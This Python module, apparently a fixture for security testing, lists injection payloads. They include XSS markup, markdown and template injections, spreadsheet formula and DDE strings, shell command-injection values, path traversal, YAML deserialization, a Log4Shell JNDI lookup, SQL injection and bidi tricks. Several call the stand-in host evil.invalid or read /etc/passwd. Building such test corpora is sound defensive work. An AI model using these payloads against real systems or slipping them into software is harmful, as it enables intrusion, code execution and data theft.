"""What somebody who means harm would write into a cell, a name or a file; PWN stands where it would take effect."""

from __future__ import annotations

MARK = "PWN"
ABROAD = "evil.invalid"
JS = f"alert('{MARK}')"

# Taken for markup by a page.
MARKUP = [
    f"<script>{JS}</script>", f"<ScRiPt>{JS}</sCrIpT>", f"<script/x>{JS}</script/x>", f"<scr<script>ipt>{JS}</script>",
    f"\"><script>{JS}</script>", f"'><script>{JS}</script>", f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>", f"</style><script>{JS}</script>", f"</script><script>{JS}</script>",
    f"--><script>{JS}</script>", f"]]><script>{JS}</script>", f"</td></tr></table><script>{JS}</script>",
    f"</code></pre><script>{JS}</script>", f"<![CDATA[<script>{JS}</script>]]>", f"<script src=https://{ABROAD}/{MARK}></script>",
    f"<img src=x onerror={JS}>", f"<img src=x onerror=\"{JS}\"", f"<img/src=x/onerror={JS}>", f"<IMG SRC=x OnErRoR={JS}>",
    f"<img src=https://{ABROAD}/{MARK}.png>", f"<!--<img src=\"--><img src=x onerror={JS}//\">",
    f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>", f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{JS}</script></svg>#x\">",
    f"<svg><foreignObject><body onload={JS}></foreignObject></svg>", f"<body onload={JS}>", f"<body onpageshow={JS}>",
    f"<iframe srcdoc=\"<script>parent.{JS}</script>\">", f"<iframe src=\"javascript:parent.{JS}\">",
    f"<object data=\"javascript:{JS}\">", f"<embed src=\"javascript:{JS}\">", f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}>", f"<textarea autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}>", f"<marquee onstart={JS}>x</marquee>",
    f"<a href=\"javascript:{JS}\">x</a>", f"<a href=\"java&#10;script:{JS}\">x</a>", f"<a href=\" &#14; javascript:{JS}\">x</a>",
    f"<a href=\"data:text/html,<script>{JS}</script>\">x</a>", f"<a href=\"vbscript:MsgBox('{MARK}')\">x</a>",
    f"<form action=\"javascript:{JS}\"><button>x</button></form>", f"<isindex type=image src=1 onerror={JS}>",
    f"<style>@import 'https://{ABROAD}/{MARK}';</style>", f"<link rel=stylesheet href=https://{ABROAD}/{MARK}>",
    f"<meta http-equiv=refresh content=\"0;url=https://{ABROAD}/{MARK}\">", f"<base href=https://{ABROAD}/>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={JS}></style></mglyph></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">", f"<template><script>{JS}</script></template>",
    f"<table background=\"https://{ABROAD}/{MARK}\"><td>x", f"<div style=\"background:url(https://{ABROAD}/{MARK})\">x</div>",
    f"<p id=x tabindex=1 onfocus={JS} autofocus>x</p>", f"&lt;script&gt;{JS}&lt;/script&gt;", f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"%3Cscript%3E{JS}%3C/script%3E", f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e", f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e", f"<\u017fcript>{JS}</\u017fcript>", f"<?xml-stylesheet href=\"javascript:{JS}\"?>",
    f"\" onmouseover=\"{JS}\" x=\"", f"' onfocus='{JS}' autofocus x='", f"` onerror=`{JS}", f"x onerror={JS}//",
    f"\" autofocus onfocus={JS} tabindex=1 x=\"", f"x\" alt=\"\" onload=\"{JS}", f"<!DOCTYPE x [<!ENTITY e SYSTEM \"https://{ABROAD}/{MARK}\">]>&e;",
    f"<ix:nonFraction name=\"esrs:{MARK}\" contextRef=\"c\" unitRef=\"u\">1</ix:nonFraction>", f"<xi:include href=\"file:///etc/passwd#{MARK}\"/>",
]  # fmt: skip

# Taken for markup by what makes pages of plain words, or draws them.
WORDS = [
    f"[x](javascript:{JS})", f"[x](<javascript:{JS}>)", f"[x](JaVaScRiPt:{JS})", f"[x](data:text/html,<script>{JS}</script>)",
    f"[x](vbscript:{MARK})", f"![x](https://{ABROAD}/{MARK}.png)", f"![x](javascript:{JS})", f"[![x](x.png)](javascript:{JS})",
    f"<javascript:{JS}>", f"[x]: javascript:{JS}", f"[x][1]\n\n[1]: javascript:{JS}", f"```\n<script>{JS}</script>\n```",
    f"`</code><script>{JS}</script>`", f"\\<script>{JS}\\</script>", f"\\`<img src=x onerror={JS}>\\`", f"| a | <img src=x onerror={JS}> |\n|---|---|",
    f"# x\n\n<script>{JS}</script>", f"x\n\n    </pre><script>{JS}</script>", f"> <img src=x onerror={JS}>", f"~~~html\n<script>{JS}</script>\n~~~",
    f"**<svg onload={JS}>**", f"*[x](javascript:{JS})*", f"$$\\href{{javascript:{JS}}}{{x}}$$", f"$\\href{{javascript:{JS}}}{{x}}$",
    f"\\(\\href{{javascript:{JS}}}{{x}}\\)", f"\\begin{{equation}}\\href{{javascript:{JS}}}{{x}}\\end{{equation}}", "$\\frac{$", "$$", "@@0@@",
    f"$\\text{{</script><script>{JS}</script>}}$", f"\\unicode{{<img src=x onerror={JS}>}}", f"]]></style><script>{JS}</script>",
    f"{{{{constructor.constructor('{JS}')()}}}}", f"${{{JS}}}", f"#{{{JS}}}", f"<%= {JS} %>", f"{{% include '/etc/passwd' %}}{MARK}",
    "{0.__class__.__mro__}", "{name.__init__.__globals__}", "%s%s%n%(x)s", f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{MARK}",
]  # fmt: skip

# Taken for a formula by a spreadsheet.
FORMULAS = [
    f"=1+1+N(\"{MARK}\")", f"=cmd|' /C calc {MARK}'!A0", f"+cmd|' /C calc {MARK}'!A0", f"-2+3+cmd|' /C calc {MARK}'!A0",
    f"@SUM(1+1)*cmd|' /C calc {MARK}'!A0", f"=HYPERLINK(\"https://{ABROAD}/{MARK}\",\"x\")", f"=WEBSERVICE(\"https://{ABROAD}/{MARK}\")",
    f"=IMPORTXML(\"https://{ABROAD}/{MARK}\",\"//a\")", f"=IMAGE(\"https://{ABROAD}/{MARK}.png\")", f"=DDE(\"cmd\";\"/C calc\";\"{MARK}\")",
    f"=FILTERXML(\"<x>{MARK}</x>\",\"//x\")", f"=INDIRECT(\"'{MARK}'!A1\")", f"=CALL(\"urlmon\",\"URLDownloadToFileA\",\"{MARK}\")",
    f"=EXEC(\"{MARK}\")", f"{{=1+1+N(\"{MARK}\")}}", f"\"=1+1+N(\"\"{MARK}\"\")\"", f"x;=HYPERLINK(\"https://{ABROAD}/{MARK}\")",
    f"x\n=HYPERLINK(\"https://{ABROAD}/{MARK}\")", f"x;+cmd|'{MARK}'!A0", f"\uff1d1+1+N(\"{MARK}\")", f"\uff0bcmd|'{MARK}'!A0", f"\uff0dcmd|'{MARK}'!A0",
    f"\uff20SUM({MARK})", f"\u200b=1+1+N(\"{MARK}\")", f"_x003D_1+1+N(\"{MARK}\")", f"_x0009_=1+1+N(\"{MARK}\")", f"'=1+1+N(\"{MARK}\")", f"=+-@{MARK}",
    f"-{MARK}", f"@{MARK}", f"=A1&\"{MARK}\"", f"https://{ABROAD}/{MARK}", f"file:///etc/passwd#{MARK}", f"mailto:x@{ABROAD}?{MARK}",
]  # fmt: skip

# Taken for an order by a shell, for a place by a file system, for code by Python, for a line by a log.
ORDERS = [
    f"$(touch {MARK})", f"`touch {MARK}`", f"; touch {MARK} ;", f"| touch {MARK}", f"&& touch {MARK}", f"x\ntouch {MARK}", f"--outputs=/tmp/{MARK}",
    f"../../../{MARK}", f"..\\..\\{MARK}", f"C:{MARK}.csv", f"\\\\{ABROAD}\\{MARK}", f"/tmp/{MARK}", f"~/{MARK}", "CON", "NUL.txt", f"{MARK}. ",
    f"__import__('os').system('touch {MARK}')", f"\"\"\"+open('{MARK}','w').write('')+\"\"\"", f"'\nimport os; os.mkdir('{MARK}')\n'",
    f"!!python/object/apply:os.system ['touch {MARK}']", f"x\n---\n!!python/name:os.{MARK}", f"${{jndi:ldap://{ABROAD}/{MARK}}}", f"' OR 1=1 -- {MARK}",
    f"organisation.yaml, row 1: {MARK}\n0 faults", f"\u202exslx.{MARK}", f"\u2066{MARK}\u2069", f"{MARK}\u2028import os", "NaN", "Infinity", "1e308",
]  # fmt: skip

TEXTS = [*MARKUP, *WORDS, *FORMULAS, *ORDERS]
